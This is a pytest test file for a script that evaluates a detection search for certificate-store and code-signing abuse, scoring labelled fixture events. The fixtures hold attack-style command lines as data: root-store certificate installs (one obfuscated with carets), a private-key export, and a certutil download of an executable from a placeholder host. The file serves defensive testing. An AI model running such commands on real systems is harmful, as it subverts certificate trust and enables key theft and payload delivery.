"""`python -m scripts.evaluate`: figures of a small labelled file, with weights of its own so that they stay exact."""

from __future__ import annotations

import gzip
import json
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from scripts import ROOT, evaluate
from scripts.evaluation import published
from scripts.evaluation.measures import Rate, auc
from scripts.evaluation.reports import facts, window
from scripts.evaluation.samples import read_cmdlines

DATA = ROOT.parent / "shared" / "data"

INDICATORS = """indicator,kind,weight,technique,description,false_positives
add_to_store_root,action,70,T1553.004,,
signtool_sign_store,action,45,T1553.002,,
list_certificates,action,8,,,
export_key,action,15,T1552.004,,
parent_shell,context,5,,,
no_timestamp,modifier,0,,,
"""
ADD = "certutil -addstore root C:\\lab\\x.cer"
SIGN = "signtool sign /n Lab /tr http://t.example app.exe"
LIST = "certutil -store My"
CMD = "C:\\Windows\\System32\\cmd.exe"


def case(name: str, label: str, line: str, **more: object) -> dict[str, object]:
    image = f"C:\\Windows\\System32\\{line.split()[0]}.exe"
    return {"id": name, "label": label, "Image": image, "CommandLine": line, "source": "made up", **more}


CASES = [
    case("M1", "malicious", ADD, expect={"CertImport": 1, "HasPFX": 1}, expect_min=60, expect_max=100),
    case("M2", "malicious", ADD, ParentImage=CMD),
    case("M3", "malicious", SIGN),
    case("S1", "suspicious", SIGN, expect={"IsSigntool": 1}, expect_min=50, expect_max=60),
    case("B1", "benign", LIST),
    case("B2", "benign", SIGN),
    case("B3", "benign", "notepad a.txt"),
    case("B4", "malicious", "certutil -urlcache -f http://h.example/a.exe a.exe", scope="other_technique"),
]


@pytest.fixture(autouse=True)
def _lookups(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    folder = tmp_path / "lookups"
    folder.mkdir()
    (folder / "codesignrisk_indicators.csv").write_text(INDICATORS)
    (folder / "codesignrisk_parents.csv").write_text("image,class,description\ncmd.exe,shell,\n")
    (folder / "codesignrisk_allowlist.csv").write_text("rule_id\n")
    monkeypatch.setattr(evaluate, "LOOKUPS", folder)


def write(path: Path, rows: list[dict[str, Any]]) -> str:
    text = "".join(json.dumps(row) + "\n" for row in rows)
    path.write_bytes(gzip.compress(text.encode()) if path.suffix == ".gz" else text.encode())
    return str(path)


@pytest.fixture
def figures(capsys: pytest.CaptureFixture[str]):
    """Run with --json and give what it prints."""

    def run(*args: str) -> dict[str, Any]:
        assert evaluate.main([*args, "--json"]) == 0
        result: dict[str, Any] = json.loads(capsys.readouterr().out)
        return result

    return run


def rate(hits: int, total: int) -> dict[str, int]:
    return {"hits": hits, "total": total}


# -- labelled process starts


def test_counts_by_label(figures, tmp_path):
    groups = figures("--cases", write(tmp_path / "c.jsonl", CASES))["cases"]["groups"]
    assert groups == {
        "malicious": {
            "label": "malicious",
            "reach": {"60": rate(2, 3), "40": rate(3, 3), "20": rate(3, 3)},
            "published": rate(2, 3),
            "bands": {"none": 0, "info": 0, "low": 0, "medium": 1, "high": 2, "critical": 0},
        },
        "suspicious": {
            "label": "suspicious",
            "reach": {"60": rate(0, 1), "40": rate(1, 1), "20": rate(1, 1)},
            "published": rate(0, 1),
            "bands": {"none": 0, "info": 0, "low": 0, "medium": 1, "high": 0, "critical": 0},
        },
        # what another technique does must be as silent as what is benign
        "benign": {
            "label": "benign",
            "reach": {"60": rate(0, 4), "40": rate(1, 4), "20": rate(1, 4)},
            "published": rate(0, 4),
            "bands": {"none": 2, "info": 1, "low": 0, "medium": 1, "high": 0, "critical": 0},
        },
    }


def test_order_of_the_labels(figures, tmp_path):
    aucs = figures("--cases", write(tmp_path / "c.jsonl", CASES))["cases"]["aucs"]
    # ours: malicious 70 75 45, suspicious 45, benign 8 45 0 0; published: 2 3 0, 0, 0 0 0 0
    assert aucs == [
        {"upper": "malicious", "lower": "benign", "ours": 11.5 / 12, "published": 10 / 12},
        {"upper": "malicious", "lower": "suspicious", "ours": 2.5 / 3, "published": 2.5 / 3},
        {"upper": "suspicious", "lower": "benign", "ours": 3.5 / 4, "published": 0.5},
    ]


def test_names_every_flag_and_score_that_is_not_as_expected(figures, tmp_path):
    result = figures("--cases", write(tmp_path / "c.jsonl", CASES))["cases"]
    assert result["flags"] == rate(2, 3)
    assert result["flag_errors"] == [
        {"name": "M1", "label": "malicious", "score": 70, "why": "HasPFX is 0, expected 1", "line": ADD}
    ]
    assert [(line["name"], line["score"], line["why"]) for line in result["score_errors"]] == [
        ("M3", 45, "malicious below 60"),
        ("S1", 45, "expected 50 to 60"),
        ("B2", 45, "benign at 40 or more"),
    ]


def write_event(name: str, label: str, kind: str, target: str, **more: object) -> dict[str, object]:
    """A registry write whose own `source` is the log: what is said about it has underscores."""
    event = {"EventCode": "13", "EventType": "SetValue", "TargetObject": target, "Details": "Binary Data"}
    said = {"_id": name, "_label": label, "_kind": kind, "_why": "made up", "_source": "made up"}
    return {**event, "Image": "C:\\Windows\\regedit.exe", "source": "XmlWinEventLog:Sysmon", **said, **more}


ROOT_KEY = "HKLM\\SOFTWARE\\Microsoft\\SystemCertificates\\ROOT\\Certificates\\" + "A1" * 20 + "\\Blob"


def test_scopes_and_kinds_are_measured_apart_and_what_nobody_can_tell_is_left_out(figures, tmp_path):
    rows = [
        CASES[0],
        case("X1", "malicious", ADD, scope="extended"),
        case("X2", "malicious", LIST, scope="extended"),
        case("O1", "malicious", ADD, scope="out"),
        case("U1", "malicious", LIST, decidable=False),
        write_event("E1", "malicious", "registry", ROOT_KEY),
        write_event("E2", "benign", "registry", "HKLM\\SOFTWARE\\Lab\\Blob"),
        write_event("E3", "benign", "registry", ROOT_KEY, _decidable="False"),
    ]
    result = figures("--cases", write(tmp_path / "c.jsonl", rows))
    reach = {
        section: {
            label: (group["reach"]["60"], group["reach"]["40"])
            for label, group in result[section]["groups"].items()
            if group["reach"]["60"]["total"]
        }
        for section in ("cases", "extended", "others")
    }
    assert reach == {
        "cases": {"malicious": (rate(1, 1), rate(1, 1))},
        "extended": {"malicious": (rate(1, 2), rate(1, 2))},
        "others": {"malicious": (rate(1, 1), rate(1, 1)), "benign": (rate(0, 1), rate(0, 1))},
    }
    assert {bar["name"]: bar["shown"] for bar in result["bars"]} == {
        "AUC malicious/benign": "-",
        "AUC malicious/suspicious": "-",
        "AUC suspicious/benign": "-",
        "malicious at 60 or more": "1 of 1 (100.0%)",
        "benign at 60 or more": "0 of 0",
        "benign at 40 or more": "0 of 0",
        "flags as expected": "1 of 2 (50.0%)",
        "identity certificates at 40 or more": "1 of 2 (50.0%)",
        "malicious events at 40 or more": "1 of 1 (100.0%)",
        "benign events at 20 or more": "0 of 1 (0.0%)",
        "benign events at 40 or more": "0 of 1 (0.0%)",
    }


def test_parts_by_kind_and_platform(figures, tmp_path):
    rows = [
        CASES[0],
        case("L1", "benign", LIST, Image="/usr/bin/sbsign"),
        case("A1", "benign", LIST, ParentImage="/Applications/Lab.app/Contents/MacOS/Lab"),
        case("W1", "benign", LIST, Image="/opt/x", platform="Windows"),
        write_event("E1", "malicious", "registry", ROOT_KEY),
    ]
    parts = figures("--cases", write(tmp_path / "c.jsonl", rows))["parts"]["parts"]
    assert [(part["name"], part["malicious_60"], part["benign_20"], part["auc"]) for part in parts] == [
        ("all", rate(2, 2), rate(0, 3), 1.0),
        ("process starts", rate(1, 1), rate(0, 3), 1.0),
        ("process starts, Linux", rate(0, 0), rate(0, 1), None),
        ("process starts, Windows", rate(1, 1), rate(0, 1), 1.0),
        ("process starts, macOS", rate(0, 0), rate(0, 1), None),
        ("other kinds", rate(1, 1), rate(0, 0), None),
        ("registry", rate(1, 1), rate(0, 0), None),
    ]


def test_a_label_in_doubt_counts_and_is_named(figures, tmp_path):
    rows = [case("B1", "benign", ADD, doubt="planted after all")]
    result = figures("--cases", write(tmp_path / "c.jsonl", rows))["cases"]
    assert result["groups"]["benign"]["reach"]["60"] == rate(1, 1)
    assert [(line["name"], line["why"]) for line in result["doubts"]] == [("B1", "planted after all")]


def test_prints_for_people(capsys, tmp_path):
    evaluate.main(["--cases", write(tmp_path / "c.jsonl", CASES)])
    printed = capsys.readouterr().out.splitlines()
    for line in (
        "Labelled process starts, c.jsonl",
        "  malicious                              3      2 66.7%     3 100.0%     3 100.0%      2 66.7%",
        "  malicious/benign                    0.9583      0.8333",
        "  flags as expected: 2 of 3 (66.7%)",
        "Flags that are not as expected: 1",
        "  M1       malicious     70  HasPFX is 0, expected 1",
        f"          {ADD}",
        "  FAIL  malicious at 60 or more                  2 of 3 (66.7%)          at least 90%",
        "  pass  benign at 60 or more                     0 of 4 (0.0%)           at most 2%",
    ):
        assert line in printed


def test_check_makes_a_missed_bar_the_exit_status(tmp_path, capsys):
    file = write(tmp_path / "c.jsonl", CASES)
    assert evaluate.main(["--cases", file]) == 0
    assert evaluate.main(["--cases", file, "--check"]) == 1
    assert evaluate.main(["--cases", write(tmp_path / "good.jsonl", [CASES[1], CASES[4]]), "--check"]) == 0
    printed = capsys.readouterr().out
    assert "  n/a   AUC suspicious/benign                    -                       at least 0.80" in printed


# -- command lines


def test_command_lines_have_no_image(figures, tmp_path):
    rows = [
        {"CommandLine": ADD, "label": "benign", "tool": "certutil.exe", "_key": "k1"},
        {"CommandLine": SIGN, "label": "benign", "tool": "signtool.exe", "_key": "k2"},
        {"CommandLine": ADD, "label": "theft", "tool": "certutil.exe", "_key": "k3"},
    ]
    result = figures("--cmdlines", write(tmp_path / "l.jsonl", rows))
    assert result["cmdlines"]["groups"]["benign"]["reach"] == {"60": rate(1, 2), "40": rate(2, 2), "20": rate(2, 2)}
    assert result["cmdlines"]["groups"]["theft"]["published"] == rate(1, 1)
    assert [line["name"] for line in result["cmdlines"]["false_alarms"]] == ["k1"]
    assert [(bar["name"], bar["passed"]) for bar in result["bars"]] == [("benign command lines at 60 or more", False)]


def test_a_row_without_a_tool_is_powershell_text(tmp_path):
    row = {"CommandLine": 'Import-Certificate "a b.cer"', "label": "benign", "tool": ""}
    (sample,) = read_cmdlines(Path(write(tmp_path / "l.jsonl", [row])))
    assert sample.record == {
        "Image": "powershell.exe",
        "CommandLine": r'powershell.exe -Command "Import-Certificate \"a b.cer\""',
    }
    assert (sample.name, sample.line) == ("1", row["CommandLine"])


# -- recorded events


def start(line: str, label: str = "unlabelled-background", parent_line: str = "") -> dict[str, Any]:
    image = f"C:\\Windows\\System32\\{line.split()[0]}.exe"
    return {
        "EventCode": "1",
        "Image": image,
        "CommandLine": line,
        "ParentCommandLine": parent_line,
        "_label": label,
        "_hit": {"CommandLine": ["x"]},
    }


GATHER = 'cmd /c "certutil -v -store -silent My >> config\\envinfo.txt"'


def test_recorded_events(figures, tmp_path):
    write(
        tmp_path / "process_creation.jsonl.gz",
        [
            start("notepad a.txt"),
            start(SIGN),
            start(ADD),
            start(ADD, "benign"),
            {"EventCode": "11", "_label": "unlabelled-background"},
        ],
    )
    write(
        tmp_path / "relevant.jsonl.gz",
        [
            start(ADD, "malicious"),
            start("certutil -p x -exportPFX my.pfx", "theft"),
            start("certutil -v -store My", "benign", parent_line=GATHER),
        ],
    )
    result = figures("--events", str(tmp_path))
    assert result["events"]["background"]["reach"] == {"60": rate(1, 3), "40": rate(2, 3), "20": rate(2, 3)}
    assert [(line["name"], line["score"], line["line"]) for line in result["events"]["noise"]] == [
        ("3", 70, ADD),
        ("2", 45, SIGN),
    ]
    assert result["events"]["required"] == rate(1, 2)
    assert [(line["name"], line["score"]) for line in result["events"]["required_missed"]] == [("2", 15)]
    assert result["events"]["gather_max"] == 8
    # notepad holds no term of the searches, the others do
    assert (result["events"]["let_through"], result["events"]["lost"]) == (rate(3, 4), [])
    assert {bar["name"]: bar["passed"] for bar in result["bars"]} == {
        "background at 20 or more": False,
        "background at 60 or more": False,
        "required events at 20 or more": False,
        "gatherNetworkInfo's highest score": True,
    }


def test_names_what_scores_and_reaches_no_search(figures, tmp_path):
    hidden = "cmd /c cer^tutil -addst^ore ro^ot C:\\lab\\x.c^er"
    write(tmp_path / "process_creation.jsonl.gz", [{**start(hidden), "_key": "certutil"}, start(ADD)])
    result = figures("--events", str(tmp_path))["events"]
    assert result["let_through"] == rate(1, 2)
    assert [line["line"] for line in result["lost"]] == [hidden]


def test_recorded_events_of_other_kinds(figures, tmp_path):
    quiet = write_event("E2", "-", "registry", "HKLM\\SOFTWARE\\Lab\\Blob")
    loud = write_event("E1", "-", "registry", ROOT_KEY)
    background = "unlabelled-background"
    rows = [{**quiet, "_label": background}, {**loud, "_label": background}, {**loud, "_label": "malicious"}]
    write(tmp_path / "registry.jsonl.gz", rows)
    result = figures("--events", str(tmp_path))
    assert result["background"]["noisy"] == {"registry": rate(1, 2)}
    assert [(line["name"], line["label"], line["score"]) for line in result["background"]["noise"]] == [
        ("2", "registry", 70)
    ]
    bars = {bar["name"]: (bar["passed"], bar["wanted"]) for bar in result["bars"]}
    assert bars["recorded registry at 20 or more"] == (False, "at most 1 in 10,000")


# -- public reports


@pytest.mark.parametrize(
    ("expected", "limits"),
    [
        ("< 40 (threshold of a search): why", (0, 39)),
        ("<= 19: why", (0, 19)),
        (">= 60, as with OriginalFileName (100)", (60, 100)),
        ("0: usage text only", (0, 0)),
        ("0 / action verify", (0, 0)),
        ("as xattr -c (48)", (38, 100)),
        ("as jsign at least, better as osslsigncode (61)", None),
        ("as mkcert -install", None),
        ('no "alternate data stream"', None),
    ],
)
def test_what_a_report_calls_right(expected, limits):
    assert window(expected) == limits


@pytest.mark.parametrize(
    ("expected", "held"),
    [
        ("action sign, target evil.exe", True),
        ("action sign, target other.exe", False),
        ("action verify", False),
        ('sentence unharmed: "a password of other words"', True),
        ('never "a password stands there"', False),
        ('no "alternate data stream"; a key in a token', True),
        ("as mkcert -install", None),
    ],
)
def test_what_a_report_says_besides_a_score(expected, held):
    masked = {"codesign_action": "sign", "codesign_target": [], "codesign_reasons": ["the *** of the key file (+8)"]}
    assert facts('sentence unharmed: "the password"', masked) is False
    reasons = ["x signs evil.exe (+10)", "a password stands there (+8)"]
    output = {"codesign_action": "sign", "codesign_target": ["c:\\evil.exe"], "codesign_reasons": reasons}
    assert facts(expected, output) is held


def test_reports(figures, tmp_path):
    rows = [
        {**case("R1", "", ADD), "expected": ">= 60"},
        {**case("R2", "", ADD), "expected": "< 40: roll-out"},
        {**case("R3", "", LIST), "expected": "as mkcert -install"},
    ]
    result = figures("--reports", write(tmp_path / "r.jsonl", rows))
    assert result["reports"]["right"] == rate(1, 2)
    assert [(line["name"], line["score"], line["why"]) for line in result["reports"]["wrong"]] == [
        ("R2", 70, "< 40: roll-out")
    ]
    assert [line["name"] for line in result["reports"]["unscored"]] == ["R3"]


# -- input that is not there, or not readable


def test_says_where_the_data_should_be(monkeypatch, capsys, tmp_path):
    monkeypatch.setattr(evaluate, "OWN", tmp_path)
    monkeypatch.setattr(evaluate, "DATA", tmp_path / "nowhere")
    with pytest.raises(SystemExit, match="2"):
        evaluate.main([])
    message = f"there is no labelled data in {tmp_path} and {tmp_path / 'nowhere'}: name some with --cases"
    assert message in capsys.readouterr().err


def test_a_clone_without_other_peoples_data_has_the_own_sets(figures, monkeypatch, tmp_path):
    monkeypatch.setattr(evaluate, "OWN", tmp_path)
    monkeypatch.setattr(evaluate, "DATA", tmp_path / "nowhere")
    write(tmp_path / "one.jsonl", CASES[:2])
    write(tmp_path / "two.jsonl", CASES[4:5])
    result = figures()
    assert list(result) == ["own_cases", "own_extended", "own_others", "own_parts", "cross_validated", "bars"]
    assert {label: group["reach"]["60"] for label, group in result["own_cases"]["groups"].items()} == {
        "malicious": rate(2, 2),
        "suspicious": rate(0, 0),
        "benign": rate(0, 1),
    }


@pytest.mark.parametrize(
    ("content", "message"),
    [
        ('{"label": "benign"\n', "c.jsonl line 1: not JSON (Expecting ',' delimiter)"),
        ("\n[]\n", "c.jsonl line 2: not a JSON object"),
        ('{"label": "good"}\n', "c.jsonl line 1: label 'good' is none of malicious, suspicious, benign"),
        ('{"label": "benign", "id": "1"}\n', "c.jsonl line 1: there is no 'CommandLine'"),
        ('{"_label": "benign", "_id": "1"}\n', "c.jsonl line 1: there is no 'kind'"),
    ],
)
def test_names_the_row_that_is_broken(content, message, capsys, tmp_path):
    (tmp_path / "c.jsonl").write_text(content)
    assert evaluate.main(["--cases", str(tmp_path / "c.jsonl")]) == 2
    assert capsys.readouterr().err.strip() == message


def test_names_a_file_or_folder_that_is_missing(capsys, tmp_path):
    assert evaluate.main(["--cases", str(tmp_path / "c.jsonl")]) == 2
    assert "c.jsonl: cannot be read" in capsys.readouterr().err
    assert evaluate.main(["--events", str(tmp_path)]) == 2
    assert "holds neither process_creation.jsonl.gz nor relevant.jsonl.gz" in capsys.readouterr().err


# -- the published search


@pytest.mark.parametrize(
    ("image", "line", "parent", "expected"),
    [
        # "sign" without a dash or slash is not what its regex looks for
        ("C:\\sdk\\signtool.exe", "signtool sign /tr http://t.example a.exe", "node.exe", {"IsSigntool": 1}),
        (
            "C:\\sdk\\signtool.exe",
            "signtool /sign /f a.PFX a.exe",
            "C:\\Windows\\explorer.exe",
            {"IsSigntool": 1, "SigntoolSignCmd": 1, "HasPFX": 1, "SelfSigned": 1, "SuspiciousParent": 1},
        ),
        # /tr also stands in a path, and root in a file's name
        ("signtool.exe", "signtool sign C:/trunk/a.exe", "", {"IsSigntool": 1}),
        ("certutil.exe", "certutil -dump myroot.cer", "", {"IsCertutil": 1, "TrustedStoreTarget": 1}),
        (
            "certutil.exe",
            "certutil -addstore TrustedPublisher a.cer",
            "cmd.exe",
            {"IsCertutil": 1, "CertImport": 1, "TrustedStoreTarget": 1, "SuspiciousParent": 1},
        ),
        ("azuresigntool.exe", "azuresigntool sign -tr http://t.example a.exe", "", {"IsSigntool": 1}),
        # without a command line nothing is known but the parent
        ("signtool.exe", "", "cmd.exe", {"IsSigntool": 1, "SuspiciousParent": 1}),
        # any other image never gets through
        ("powershell.exe", "certutil -addstore root a.pfx", "cmd.exe", {}),
    ],
)
def test_published_search_looks_for_substrings(image, line, parent, expected):
    record = {"Image": image, "CommandLine": line, "ParentImage": parent}
    got = published.assess(record)
    score = sum(value for name, value in expected.items() if name not in ("IsSigntool", "IsCertutil"))
    assert {name: value for name, value in got.items() if value and name != "RiskScore"} == expected
    assert got["RiskScore"] == score


def test_published_search_agrees_with_the_recorded_scores():
    """The labelled cases carry the RiskScore that the published evals gave them."""
    if not DATA.is_dir():
        pytest.skip("the labelled cases are not here")
    rows = [json.loads(line) for line in (DATA / "cases.jsonl").read_text(encoding="utf-8").splitlines()]
    compared = 0
    for row in rows:
        got = published.assess({key: value for key, value in row.items() if key.endswith(("Image", "CommandLine"))})
        if got["IsSigntool"] or got["IsCertutil"]:
            compared += 1
            assert (row["id"], got["RiskScore"]) == (row["id"], row["seed_score"])
    assert compared > 50


# -- the arithmetic

SCORES = st.lists(st.integers(0, 100), min_size=1, max_size=30)


@pytest.mark.parametrize(
    ("upper", "lower", "expected"),
    [
        ([3], [1], 1.0),
        ([1], [3], 0.0),
        ([2], [2], 0.5),
        ([1, 2], [1, 3], 0.375),
        ([], [1], None),
        ([1], [], None),
    ],
)
def test_auc(upper, lower, expected):
    assert auc(upper, lower) == expected


@given(SCORES, SCORES)
def test_auc_counts_the_pairs_in_order(upper, lower):
    pairs = [1.0 if high > low else 0.5 if high == low else 0.0 for high in upper for low in lower]
    assert auc(upper, lower) == pytest.approx(sum(pairs) / len(pairs))


@given(SCORES, SCORES)
def test_auc_of_swapped_groups_adds_up_to_one(upper, lower):
    assert auc(upper, lower) + auc(lower, upper) == pytest.approx(1)


@given(SCORES, SCORES)
def test_auc_knows_order_only(upper, lower):
    assert auc([score**3 for score in upper], [score**3 for score in lower]) == auc(upper, lower)


def test_a_rate_of_nothing_has_no_share():
    assert Rate(0, 0).share is None
    assert (str(Rate(0, 0)), str(Rate(1, 8))) == ("0 of 0", "1 of 8 (12.5%)")
